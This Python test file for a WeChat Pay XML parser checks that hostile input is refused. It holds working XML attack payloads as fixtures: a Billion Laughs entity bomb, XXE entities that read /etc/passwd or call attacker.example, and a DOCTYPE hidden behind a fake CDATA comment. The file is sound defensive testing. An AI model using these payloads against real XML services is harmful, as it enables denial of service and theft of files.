import time
from typing import Any

import pytest

from mppay.wechatpay.errors import XmlForbiddenError, XmlSyntaxError, XmlTooLargeError
from mppay.wechatpay.v2.xml import DEFAULT_MAX_BYTES, build_xml, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><return_code>&lol9;</return_code></xml>"""


def refused_quickly(body: bytes, error: type[Exception], **kwargs: Any) -> Exception:
    """Refused before any parsing happens: size and DTD/entity checks run on the raw bytes,
    so nothing is expanded (the error types below are raised only by those pre-checks)."""
    with pytest.raises(error) as caught:
        parse_xml(body, **kwargs)
    return caught.value


def test_a_wechat_style_document_parses_with_cdata_bare_values_and_whitespace() -> None:
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<xml>\n'
        b"  <return_code><![CDATA[SUCCESS]]></return_code>\n"
        b"  <total_fee>88</total_fee>\n  <attach><![CDATA[]]></attach>\n  <device_info/>\n</xml>\n"
    )
    assert parse_xml(body) == {
        "return_code": "SUCCESS",
        "total_fee": "88",
        "attach": "",
        "device_info": "",
    }


def test_values_are_kept_verbatim_because_signatures_cover_them() -> None:
    assert parse_xml(b"<xml><a> 1 </a><b>x&amp;y</b></xml>") == {"a": " 1 ", "b": "x&y"}


def test_an_external_file_entity_is_forbidden() -> None:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<xml><openid>&xxe;</openid></xml>"
    )
    refused_quickly(body, XmlForbiddenError)


def test_an_external_url_entity_is_forbidden() -> None:
    body = (
        b'<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://attacker.example/steal">]>'
        b"<xml><openid>&xxe;</openid></xml>"
    )
    refused_quickly(body, XmlForbiddenError)


def test_billion_laughs_fails_fast_without_expansion() -> None:
    refused_quickly(BILLION_LAUGHS, XmlForbiddenError)


def test_a_plain_doctype_without_entities_is_forbidden() -> None:
    refused_quickly(b"<!DOCTYPE xml><xml><a>1</a></xml>", XmlForbiddenError)


def test_a_doctype_hidden_from_the_text_scan_is_still_refused_by_the_parser() -> None:
    # The pre-scan ignores CDATA; a comment that only looks like CDATA hides the DOCTYPE from it.
    body = b'<!-- <![CDATA[ --><!DOCTYPE x [<!ENTITY a "b">]><!-- ]]> --><xml><a>&a;</a></xml>'
    refused_quickly(body, XmlForbiddenError)


def test_a_reference_to_an_undeclared_entity_is_forbidden() -> None:
    refused_quickly(b"<xml><a>&xxe;</a></xml>", XmlForbiddenError)


def test_doctype_text_inside_a_cdata_value_is_just_text() -> None:
    assert parse_xml(b"<xml><a><![CDATA[<!DOCTYPE x>]]></a></xml>") == {"a": "<!DOCTYPE x>"}


def test_a_ten_megabyte_body_is_refused_before_parsing() -> None:
    body = b"<xml><a>" + b"A" * (10 * 1024 * 1024) + b"</a></xml>"
    error = refused_quickly(body, XmlTooLargeError)
    assert str(DEFAULT_MAX_BYTES) in str(error)


@pytest.mark.parametrize("unit", [b"<![CDATA[", b"<!", b"<![CDATA[<!DOCTYPE", b"<a>"])
def test_pathological_bodies_just_under_the_limit_are_refused_in_linear_time(unit: bytes) -> None:
    filler = unit * ((DEFAULT_MAX_BYTES - 100) // len(unit))
    body = b"<xml><a>" + filler + b"</a></xml>"
    started = time.perf_counter()
    with pytest.raises(XmlSyntaxError):
        parse_xml(body)
    # A hang guard, not a speed test: the quadratic scan this replaced took minutes on 1 MiB.
    assert time.perf_counter() - started < 30


def test_the_size_limit_is_inclusive_and_configurable() -> None:
    body = b"<xml><a>1</a></xml>"
    assert parse_xml(body, max_bytes=len(body)) == {"a": "1"}
    refused_quickly(body, XmlTooLargeError, max_bytes=len(body) - 1)


def test_gbk_bytes_are_refused_as_not_utf8() -> None:
    refused_quickly("<xml><body>中文商品</body></xml>".encode("gbk"), XmlSyntaxError)


def test_a_declared_gbk_document_is_refused() -> None:
    body = '<?xml version="1.0" encoding="GBK"?><xml><body>中文</body></xml>'.encode("gbk")
    refused_quickly(body, XmlSyntaxError)


def test_a_declared_latin1_encoding_is_refused_even_when_the_bytes_are_ascii() -> None:
    body = b'<?xml version="1.0" encoding="ISO-8859-1"?><xml><a>1</a></xml>'
    error = refused_quickly(body, XmlSyntaxError)
    assert "ISO-8859-1" in str(error)


def test_a_utf8_byte_order_mark_is_accepted() -> None:
    assert parse_xml(b"\xef\xbb\xbf<xml><a>1</a></xml>") == {"a": "1"}


@pytest.mark.parametrize(
    "body",
    [
        b"<xml><a>1</xml>",
        b"<xml><a>1</a>",
        b"",
        b"not xml at all",
        b"<xml><a>1</a></xml><xml></xml>",
        b"<xml><a>\x01</a></xml>",
    ],
)
def test_malformed_documents_are_syntax_errors(body: bytes) -> None:
    refused_quickly(body, XmlSyntaxError)


def test_a_wrong_root_is_a_syntax_error() -> None:
    refused_quickly(b"<root><a>1</a></root>", XmlSyntaxError)


def test_the_expected_root_can_be_named() -> None:
    assert parse_xml(b"<root><a>1</a></root>", root="root") == {"a": "1"}
    refused_quickly(b"<xml><a>1</a></xml>", XmlSyntaxError, root="root")


def test_nested_elements_are_a_syntax_error() -> None:
    refused_quickly(b"<xml><a><b>1</b></a></xml>", XmlSyntaxError)


def test_a_duplicate_key_is_a_syntax_error() -> None:
    refused_quickly(
        b"<xml><total_fee>1</total_fee><total_fee>100</total_fee></xml>", XmlSyntaxError
    )


def test_stray_text_between_elements_is_a_syntax_error() -> None:
    refused_quickly(b"<xml>junk<a>1</a></xml>", XmlSyntaxError)
    refused_quickly(b"<xml><a>1</a>junk</xml>", XmlSyntaxError)


def test_error_messages_do_not_echo_the_content() -> None:
    with pytest.raises(XmlSyntaxError) as caught:
        parse_xml(b"<xml><session_key>SECRETVALUE</session_key><a>")
    assert "SECRETVALUE" not in str(caught.value)


def test_parse_refuses_text_instead_of_bytes() -> None:
    with pytest.raises(TypeError):
        parse_xml("<xml></xml>")  # type: ignore[arg-type]


def test_build_then_parse_round_trips_tricky_values() -> None:
    fields = {
        "body": "Image形象店-深圳腾大-QQ公仔",
        "attach": "a]]>b]]]>c<![CDATA[d",
        "detail": "&<>\"' and &amp;",
        "multi": "line1\r\nline2\rline3\n",
        "empty": "",
        "total_fee": "88",
    }
    body = build_xml(fields)
    assert parse_xml(body) == fields
    assert list(parse_xml(body)) == list(fields)


def test_build_wraps_every_value_in_cdata() -> None:
    assert build_xml({"return_code": "SUCCESS", "total_fee": "1"}) == (
        b"<xml><return_code><![CDATA[SUCCESS]]></return_code>"
        b"<total_fee><![CDATA[1]]></total_fee></xml>"
    )


def test_build_can_use_another_root() -> None:
    assert parse_xml(build_xml({"a": "1"}, root="root"), root="root") == {"a": "1"}


@pytest.mark.parametrize("value", ["\x00", "bell\x07", "\x1b[31m", "\ufffe", "\ud800"])
def test_build_refuses_characters_xml_cannot_carry(value: str) -> None:
    with pytest.raises(ValueError, match="cannot carry"):
        build_xml({"attach": value})


@pytest.mark.parametrize("key", ["", "1abc", "a b", "a><b", "x:y"])
def test_build_refuses_keys_that_are_not_plain_names(key: str) -> None:
    with pytest.raises(ValueError, match="element name"):
        build_xml({key: "1"})
